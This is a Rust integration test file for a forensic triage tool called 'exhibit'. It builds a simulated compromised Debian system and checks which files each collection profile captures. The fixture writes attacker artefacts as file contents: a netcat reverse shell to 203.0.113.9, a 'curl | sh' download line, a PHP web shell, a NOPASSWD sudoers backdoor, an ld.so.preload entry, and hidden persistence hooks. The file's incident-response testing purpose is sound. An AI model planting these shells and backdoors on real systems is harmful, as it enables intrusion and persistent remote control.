//! Collection profiles against a generated Debian-like root tree (`--root`):
//! usrmerge symlinks, users from the target's /etc/passwd with homes under
//! /home and /srv, SysV rc symlinks, absolute symlinks, files over a size
//! limit, secrets, and files outside the root that absolute symlinks name.
//! Every assertion reads the records back from the archive.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on setup failures

use assert_cmd::Command;
use exhibit::archive::{Archive, EntryType, FileRecord, Status};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

struct Target {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    out: PathBuf,
}

fn write(root: &Path, rel: &str, content: &str) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::write(p, content).unwrap();
}

fn sparse(root: &Path, rel: &str, len: u64) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    fs::File::create(p).unwrap().set_len(len).unwrap();
}

fn link(root: &Path, target: &str, rel: &str) {
    let p = root.join(rel);
    fs::create_dir_all(p.parent().unwrap()).unwrap();
    symlink(target, p).unwrap();
}

const OUTSIDE_SECRET: &str = "host file outside the target root: must never be read\n";

fn debian_root() -> Target {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("target");
    let outside = dir.path().join("outside");
    let out = dir.path().join("out");
    let r = root.as_path();
    // Files on the examiner's side that absolute links inside the target name.
    write(&outside, "etc/resolv.conf", OUTSIDE_SECRET);
    write(&outside, "home/carol/.bash_history", OUTSIDE_SECRET);
    let o = outside.display().to_string();

    // usrmerge.
    write(r, "usr/bin/bash", "#!bash\n");
    write(r, "usr/sbin/sshd", "sshd\n");
    write(
        r,
        "usr/lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd\n",
    );
    write(
        r,
        "usr/lib/systemd/system/backdoor.service",
        "[Service]\nExecStart=/tmp/.x\n",
    );
    link(r, "usr/bin", "bin");
    link(r, "usr/sbin", "sbin");
    link(r, "usr/lib", "lib");
    // Enabled unit: absolute symlink, resolved inside the root.
    link(
        r,
        "/lib/systemd/system/backdoor.service",
        "etc/systemd/system/multi-user.target.wants/backdoor.service",
    );
    // Accounts.
    write(
        r,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
         nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n\
         alice:x:1000:1000:Alice:/home/alice:/bin/bash\n\
         bob:x:1001:1001:Bob:/srv/bob:/bin/bash\n",
    );
    write(r, "etc/group", "root:x:0:\nalice:x:1000:\nbob:x:1001:\n");
    write(r, "etc/shadow", "root:$y$hash:19000:0:99999:7:::\n");
    write(r, "etc/gshadow", "root:*::\n");
    write(r, "etc/sudoers", "root ALL=(ALL:ALL) ALL\n");
    write(
        r,
        "etc/sudoers.d/90-backdoor",
        "bob ALL=(ALL) NOPASSWD: ALL\n",
    );
    write(r, "etc/ssh/sshd_config", "PermitRootLogin yes\n");
    write(r, "etc/ssh/ssh_host_ed25519_key", "PRIVATE\n");
    write(
        r,
        "etc/ssh/ssh_host_ed25519_key.pub",
        "ssh-ed25519 AAAA host\n",
    );
    write(r, "etc/hostname", "web01\n");
    write(
        r,
        "etc/os-release",
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
    );
    write(r, "etc/ld.so.preload", "/usr/lib/libevil.so\n");
    write(
        r,
        "etc/apt/sources.list",
        "deb http://deb.debian.org/debian bookworm main\n",
    );
    write(r, "etc/unrelated.conf", "not in any profile\n");
    // Absolute symlink naming a path that exists on the examiner's machine
    // (outside the root): must resolve inside the root (where it is missing).
    link(r, &format!("{o}/etc/resolv.conf"), "etc/resolv.conf");
    // SysV init: the rc symlink and its target.
    write(r, "etc/init.d/evil", "#!/bin/sh\n/tmp/.x &\n");
    link(r, "../init.d/evil", "etc/rc2.d/S01evil");
    // rc and systemd links to files outside every rule: followed inside the
    // root and taken; a link to a secret does not smuggle it out.
    write(
        r,
        "opt/evil/start",
        "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n",
    );
    write(
        r,
        "opt/evil/evil.service",
        "[Service]\nExecStart=/opt/evil/start\n",
    );
    write(r, "opt/evil/unrelated", "not linked from anywhere\n");
    link(r, "/opt/evil/start", "etc/rc3.d/S99evil");
    link(
        r,
        "../../../../opt/evil/evil.service",
        "etc/systemd/system/multi-user.target.wants/evil.service",
    );
    link(r, "/etc/shadow", "etc/rc3.d/K01shadow");
    // Homes.
    write(r, "root/.bash_history", "curl http://203.0.113.9/x | sh\n");
    write(
        r,
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAA attacker\n",
    );
    write(
        r,
        "home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAA alice\n",
    );
    write(r, "home/alice/.ssh/id_ed25519", "PRIVATE KEY\n");
    write(r, "home/alice/.bashrc", "alias ls='ls; /tmp/.x'\n");
    write(r, "home/alice/.python_history", "import os\n");
    write(r, "home/alice/Documents/notes.txt", "not collected\n");
    write(r, "srv/bob/.ssh/authorized_keys2", "ssh-rsa AAAA bob\n");
    write(r, "srv/bob/.mysql_history", "select * from users;\n");
    // An absolute link in a home naming the real /etc/shadow: recorded as a
    // link, never followed.
    link(r, "/etc/shadow", "srv/bob/.bash_history");
    // A home that is an absolute link to a directory outside the root.
    link(r, &format!("{o}/home/carol"), "home/carol");
    // Logs.
    write(
        r,
        "var/log/syslog",
        "Nov 22 10:00:00 web01 sshd[1]: Accepted\n",
    );
    write(r, "var/log/auth.log.2.gz", "\x1f\u{8b}gz");
    write(
        r,
        "var/log/apache2/access.log",
        "203.0.113.9 - - GET /shell.php\n",
    );
    sparse(r, "var/log/lastlog", 300 << 20);
    // Web root with a web shell, a dependency tree and a git hook.
    write(r, "var/www/html/index.php", "<?php echo 1;\n");
    write(
        r,
        "var/www/html/uploads/shell.php",
        "<?php system($_GET['c']);\n",
    );
    write(
        r,
        "var/www/html/node_modules/x/index.js",
        "module.exports=1\n",
    );
    write(
        r,
        "var/www/html/.git/hooks/post-merge",
        "#!/bin/sh\n/tmp/.x\n",
    );
    write(r, "var/www/.ssh/authorized_keys", "ssh-ed25519 AAAA www\n");
    sparse(r, "var/www/html/backup.tar", 20 << 20);
    // Scratch space.
    write(r, "tmp/.x", "ELF\n");
    // Regression: a captured payload file named bagit.txt (another bag in
    // /tmp) made the archive unreadable (it was taken for the bag's own).
    write(r, "tmp/old-bag/bagit.txt", "BagIt-Version: 1.0\n");
    sparse(r, "tmp/big.bin", 100 << 20);
    // Packages.
    write(r, "var/lib/dpkg/status", "Package: openssh-server\n");
    write(
        r,
        "var/lib/dpkg/info/openssh-server.md5sums",
        "abc  usr/sbin/sshd\n",
    );
    Target {
        _dir: dir,
        root,
        outside,
        out,
    }
}

fn capture(t: &Target, extra: &[&str]) -> (PathBuf, BTreeMap<String, FileRecord>) {
    let mut cmd = Command::cargo_bin("exhibit").unwrap();
    cmd.env("EXHIBIT_PROFILE_DIR", t.out.join("no-user-profiles"))
        .args(["capture", "--root"])
        .arg(&t.root)
        .arg("-o")
        .arg(&t.out)
        .args(["--case", "C1", "--examiner", "Test", "--json", "-q"])
        .args(extra);
    let out = cmd.assert().success().get_output().stdout.clone();
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let archive = PathBuf::from(doc["archive"].as_str().unwrap());
    assert_eq!(doc["walk"]["dirs_listed_again"], 0, "{doc}");
    let a = Archive::open(&archive).unwrap();
    let (records, bad) = a.records().unwrap();
    assert!(bad.is_empty());
    let map = records.into_iter().map(|r| (r.path.clone(), r)).collect();
    (archive, map)
}

fn taken(records: &BTreeMap<String, FileRecord>) -> BTreeSet<&str> {
    records
        .values()
        .filter(|r| r.member.is_some())
        .map(|r| r.path.as_str())
        .collect()
}

#[test]
fn triage_takes_exactly_what_a_responder_would() {
    let t = debian_root();
    let (archive, recs) = capture(&t, &["--profile", "triage"]);
    let expected: BTreeSet<&str> = [
        "/etc/apt/sources.list",
        "/etc/group",
        "/etc/hostname",
        "/etc/init.d/evil",
        "/etc/ld.so.preload",
        "/etc/os-release",
        "/etc/passwd",
        "/etc/ssh/ssh_host_ed25519_key.pub",
        "/etc/ssh/sshd_config",
        "/etc/sudoers",
        "/etc/sudoers.d/90-backdoor",
        "/home/alice/.bashrc",
        "/opt/evil/evil.service",
        "/opt/evil/start",
        "/home/alice/.python_history",
        "/home/alice/.ssh/authorized_keys",
        "/root/.bash_history",
        "/root/.ssh/authorized_keys",
        "/srv/bob/.mysql_history",
        "/srv/bob/.ssh/authorized_keys2",
        "/tmp/.x",
        "/tmp/old-bag/bagit.txt",
        "/usr/lib/systemd/system/backdoor.service",
        "/usr/lib/systemd/system/ssh.service",
        "/var/lib/dpkg/info/openssh-server.md5sums",
        "/var/lib/dpkg/status",
        "/var/log/apache2/access.log",
        "/var/log/auth.log.2.gz",
        "/var/log/syslog",
        "/var/www/.ssh/authorized_keys",
        "/var/www/html/.git/hooks/post-merge",
        "/var/www/html/index.php",
        "/var/www/html/uploads/shell.php",
    ]
    .into_iter()
    .collect();
    assert_eq!(taken(&recs), expected);

    // Content read back through the archive equals the target's file.
    let a = Archive::open(&archive).unwrap();
    let shell = &recs["/var/www/html/uploads/shell.php"];
    let mut body = String::new();
    std::io::Read::read_to_string(
        &mut a.open_member(shell.member.as_deref().unwrap()).unwrap(),
        &mut body,
    )
    .unwrap();
    assert_eq!(body, "<?php system($_GET['c']);\n");
    assert_eq!(shell.rule.as_deref(), Some("web/web-roots"));

    // usrmerge: the links are recorded, the units are taken where they live.
    let lib = &recs["/lib"];
    assert_eq!(lib.kind, EntryType::Symlink);
    assert_eq!(lib.link_target.as_deref(), Some("usr/lib"));
    assert_eq!(
        recs["/usr/lib/systemd/system/ssh.service"].rule.as_deref(),
        Some("persistence/systemd")
    );
    // No triage rule looks below /bin or /sbin: not walked, not recorded.
    assert!(!recs.contains_key("/bin"));
    assert!(
        !recs.contains_key("/usr/bin/bash"),
        "binaries are not in triage"
    );
    // rc symlink recorded with its target; the script itself is taken.
    let rc = &recs["/etc/rc2.d/S01evil"];
    assert_eq!(rc.kind, EntryType::Symlink);
    assert_eq!(rc.link_target.as_deref(), Some("../init.d/evil"));
    assert_eq!(rc.rule.as_deref(), Some("persistence/sysv-init"));
    assert_eq!(
        recs["/opt/evil/start"].rule.as_deref(),
        Some("persistence/sysv-rc-link-targets")
    );
    assert_eq!(
        recs["/opt/evil/evil.service"].rule.as_deref(),
        Some("persistence/systemd-enabled-targets")
    );
    assert!(!recs.contains_key("/opt/evil/unrelated"));
    assert_eq!(recs["/etc/rc3.d/K01shadow"].kind, EntryType::Symlink);
    let wants = &recs["/etc/systemd/system/multi-user.target.wants/backdoor.service"];
    assert_eq!(
        wants.link_target.as_deref(),
        Some("/lib/systemd/system/backdoor.service")
    );

    // Secrets without --include-secrets: recorded, excluded, with the reason.
    for p in [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/ssh/ssh_host_ed25519_key",
    ] {
        let r = &recs[p];
        assert_eq!(r.status, Status::Skipped, "{p}");
        assert!(
            r.reason.as_deref().unwrap().contains("--include-secrets"),
            "{p}"
        );
        assert!(r.member.is_none() && r.sha256.is_none());
    }
    // Exactly these are metadata only, and exactly these hit a size limit.
    let with_status = |st: Status| -> BTreeSet<&str> {
        recs.values()
            .filter(|r| r.status == st)
            .map(|r| r.path.as_str())
            .collect()
    };
    assert_eq!(
        with_status(Status::MetadataOnly),
        ["/home/alice/.ssh/id_ed25519"].into_iter().collect()
    );
    let limited: BTreeSet<&str> = recs
        .values()
        .filter(|r| {
            r.reason
                .as_deref()
                .is_some_and(|x| x.starts_with("size_limit"))
        })
        .map(|r| r.path.as_str())
        .collect();
    assert_eq!(
        limited,
        [
            "/tmp/big.bin",
            "/var/log/lastlog",
            "/var/www/html/backup.tar"
        ]
        .into_iter()
        .collect()
    );
    // Private keys in homes: metadata only.
    let key = &recs["/home/alice/.ssh/id_ed25519"];
    assert_eq!(key.status, Status::MetadataOnly);
    assert!(key.member.is_none());
    assert_eq!(key.rule.as_deref(), Some("accounts/user-ssh-listing"));

    // Size limits: recorded with the limit, not copied; nothing read.
    for (p, limit) in [
        ("/var/log/lastlog", 268_435_456u64),
        ("/tmp/big.bin", 67_108_864),
        ("/var/www/html/backup.tar", 10_485_760),
    ] {
        let r = &recs[p];
        assert_eq!(r.status, Status::Skipped, "{p}");
        assert_eq!(r.size_limit, Some(limit), "{p}");
        assert!(
            r.reason.as_deref().unwrap().starts_with("size_limit"),
            "{p}"
        );
        assert!(r.member.is_none() && r.sha256.is_none(), "{p}");
    }
    // Excluded dependency tree: recorded once, not entered.
    let nm = &recs["/var/www/html/node_modules"];
    assert_eq!(nm.status, Status::Skipped);
    assert!(nm.reason.as_deref().unwrap().starts_with("excluded"));
    assert!(!recs.contains_key("/var/www/html/node_modules/x/index.js"));

    // Outside every rule: no record at all.
    for p in [
        "/etc/unrelated.conf",
        "/home/alice/Documents/notes.txt",
        "/usr/sbin/sshd",
    ] {
        assert!(!recs.contains_key(p), "{p} should not be taken");
    }
    // Links naming absolute paths stay links; their targets on the
    // examiner's machine are never read.
    let hist = &recs["/srv/bob/.bash_history"];
    assert_eq!(hist.kind, EntryType::Symlink);
    assert_eq!(hist.link_target.as_deref(), Some("/etc/shadow"));
    assert_eq!(recs["/etc/resolv.conf"].kind, EntryType::Symlink);
    assert_eq!(recs["/home/carol"].kind, EntryType::Symlink);
    let outside_hash = hex::encode(Sha256::digest(OUTSIDE_SECRET));
    assert!(
        recs.values()
            .all(|r| r.sha256.as_deref() != Some(&outside_hash))
    );
    assert!(
        recs.keys()
            .all(|p| !p.contains(&t.outside.display().to_string()))
    );
    assert!(!recs.contains_key("/home/carol/.bash_history"));

    // The acquisition names the profile and the target's identity.
    let acq = a.acquisition().unwrap();
    assert_eq!(acq.method.profiles, vec!["triage"]);
    assert_eq!(acq.host.hostname.as_deref(), Some("web01"));
    // `show --json` reports the limits and the excluded secrets.
    let shown = Command::cargo_bin("exhibit")
        .unwrap()
        .args(["show", "--json"])
        .arg(&archive)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let shown: serde_json::Value = serde_json::from_slice(&shown).unwrap();
    assert_eq!(shown["size_limited"].as_array().unwrap().len(), 3);
    assert_eq!(shown["records"].as_u64(), Some(recs.len() as u64));
    assert!(shown["by_rule"]["persistence/sysv-init"].as_u64().unwrap() >= 2);
    // No live response for a mounted image.
    assert!(
        a.index
            .members
            .iter()
            .all(|m| !m.name.contains("/exhibit/live/"))
    );
}

#[test]
fn include_secrets_takes_and_flags_them() {
    let t = debian_root();
    let (_, recs) = capture(&t, &["--profile", "accounts", "--include-secrets"]);
    for p in [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/ssh/ssh_host_ed25519_key",
    ] {
        let r = &recs[p];
        assert_eq!(r.status, Status::Captured, "{p}");
        assert!(r.member.is_some(), "{p}");
        assert_eq!(r.flags, vec!["secret".to_string()], "{p}");
    }
    assert!(recs["/etc/passwd"].flags.is_empty());
    // accounts alone takes no logs.
    assert!(!recs.contains_key("/var/log/syslog"));
}

#[test]
fn metadata_sweep_records_everything_and_copies_nothing() {
    let t = debian_root();
    let (archive, recs) = capture(&t, &["--profile", "metadata-sweep"]);
    assert!(taken(&recs).is_empty());
    // Secrets keep their metadata in the sweep.
    assert_eq!(recs["/etc/shadow"].status, Status::MetadataOnly);
    assert!(recs["/etc/shadow"].sha256.is_none());
    let bash = &recs["/usr/bin/bash"];
    assert_eq!(bash.status, Status::MetadataOnly);
    assert!(bash.sha256.is_none(), "not executable: no hash");
    for p in [
        "/etc/unrelated.conf",
        "/home/alice/Documents/notes.txt",
        "/var/www/html/node_modules/x/index.js",
        "/tmp/big.bin",
    ] {
        assert!(recs.contains_key(p), "{p}");
        assert!(recs[p].member.is_none());
    }
    // The bodyfile lists every entry too.
    let a = Archive::open(&archive).unwrap();
    let body = String::from_utf8(a.read_tag("exhibit/bodyfile.txt", 1 << 30).unwrap()).unwrap();
    assert_eq!(body.lines().count(), recs.len());
    // The sweep lists come from the records.
    let out = Command::cargo_bin("exhibit")
        .unwrap()
        .args(["show", "--sweep", "--json"])
        .arg(&archive)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let hidden: Vec<&str> = doc["lists"]["hidden"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    assert!(hidden.contains(&"/tmp/.x"), "{hidden:?}");
}

#[test]
fn executables_are_hashed_by_the_sweep() {
    use std::os::unix::fs::PermissionsExt;
    let t = debian_root();
    let p = t.root.join("usr/sbin/sshd");
    fs::set_permissions(&p, fs::Permissions::from_mode(0o4755)).unwrap();
    let (archive, recs) = capture(&t, &["--profile", "metadata-sweep"]);
    let r = &recs["/usr/sbin/sshd"];
    assert_eq!(r.status, Status::MetadataOnly);
    assert_eq!(
        r.sha256.as_deref(),
        Some(hex::encode(Sha256::digest(b"sshd\n")).as_str())
    );
    let out = Command::cargo_bin("exhibit")
        .unwrap()
        .args(["show", "--sweep", "--json"])
        .arg(&archive)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(doc["lists"]["suid"], serde_json::json!(["/usr/sbin/sshd"]));
}

#[test]
fn profiles_are_listed_with_descriptions() {
    let out = Command::cargo_bin("exhibit")
        .unwrap()
        .env("EXHIBIT_PROFILE_DIR", "/nonexistent-exhibit-profiles")
        .args(["profiles", "--json"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let names: Vec<&str> = doc["profiles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            assert!(p["description"].as_str().unwrap().len() > 40);
            p["name"].as_str().unwrap()
        })
        .collect();
    assert_eq!(
        names,
        vec![
            "accounts",
            "history",
            "logs",
            "metadata-sweep",
            "packages",
            "persistence",
            "system",
            "tmp",
            "triage",
            "web"
        ]
    );
}

#[test]
fn a_user_profile_file_extends_the_builtins() {
    let t = debian_root();
    let pdir = t.out.join("profiles");
    fs::create_dir_all(&pdir).unwrap();
    fs::write(
        pdir.join("mine.toml"),
        "name = \"mine\"\ndescription = \"Just the unrelated config\"\nincludes = [\"system\"]\n\n[[rule]]\nname = \"conf\"\npaths = [\"/etc/*.conf\"]\nexclude = [\"/etc/resolv.conf\"]\n",
    )
    .unwrap();
    let out = Command::cargo_bin("exhibit")
        .unwrap()
        .env("EXHIBIT_PROFILE_DIR", &pdir)
        .args(["capture", "--profile", "mine", "--root"])
        .arg(&t.root)
        .arg("-o")
        .arg(&t.out)
        .args(["--case", "C2", "--examiner", "T", "--json", "-q"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let doc: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let a = Archive::open(Path::new(doc["archive"].as_str().unwrap())).unwrap();
    let (recs, _) = a.records().unwrap();
    let r = recs
        .iter()
        .find(|r| r.path == "/etc/unrelated.conf")
        .unwrap();
    assert_eq!(r.rule.as_deref(), Some("mine/conf"));
    assert!(
        recs.iter()
            .any(|r| r.path == "/etc/hostname" && r.member.is_some())
    );
    // An unknown profile is a usage error naming it.
    let err = Command::cargo_bin("exhibit")
        .unwrap()
        .env("EXHIBIT_PROFILE_DIR", &pdir)
        .args(["capture", "--profile", "nope", "--root"])
        .arg(&t.root)
        .arg("-o")
        .arg(&t.out)
        .args(["--case", "C3", "--examiner", "T"])
        .assert()
        .code(2)
        .get_output()
        .stderr
        .clone();
    let err = String::from_utf8_lossy(&err);
    assert!(err.contains("unknown profile `nope`"), "{err}");
}
